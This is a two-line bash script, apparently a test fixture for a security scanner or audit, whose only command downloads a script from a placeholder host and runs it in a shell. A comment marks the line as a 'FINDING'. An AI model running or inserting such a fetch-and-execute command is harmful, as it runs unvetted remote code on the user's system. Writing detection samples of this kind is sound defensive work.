#!/bin/bash
sh -c "$(wget -O- https://example.com/x)"  # FINDING
